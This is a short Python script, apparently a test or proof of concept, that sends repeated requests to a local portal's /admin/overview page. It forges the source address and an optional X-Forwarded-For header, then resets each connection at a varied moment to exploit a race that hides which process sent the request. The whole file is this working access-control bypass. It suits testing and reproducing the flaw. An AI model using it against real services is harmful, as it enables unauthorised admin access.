"""Asks the portal and resets the connection at once: attacker.py PORT TRIES ADDRESS [FORWARDED_FOR]. Prints how many got through to it.

The request can be read after the reset, and then nothing tells any more which process sent it.
"""

import socket
import struct
import sys
import time

port, tries, address = int(sys.argv[1]), int(sys.argv[2]), sys.argv[3]
forwarded = "X-Forwarded-For: %s\r\n" % sys.argv[4] if len(sys.argv) > 4 else ""
request = ("GET /admin/overview HTTP/1.1\r\nHost: localhost\r\nAccept: text/html\r\n%s\r\n" % forwarded).encode()
sent = 0
for number in range(tries):
    sock = socket.socket()
    sock.setsockopt(socket.SOL_SOCKET, socket.SO_LINGER, struct.pack("ii", 1, 0))
    sock.bind((address, 0))
    sock.connect(("127.0.0.1", port))
    sock.sendall(request)
    end = time.perf_counter() + number % 8 * 5e-5  # from none to 350 µs
    while time.perf_counter() < end:
        pass
    sock.close()
    sent += 1
print(sent)
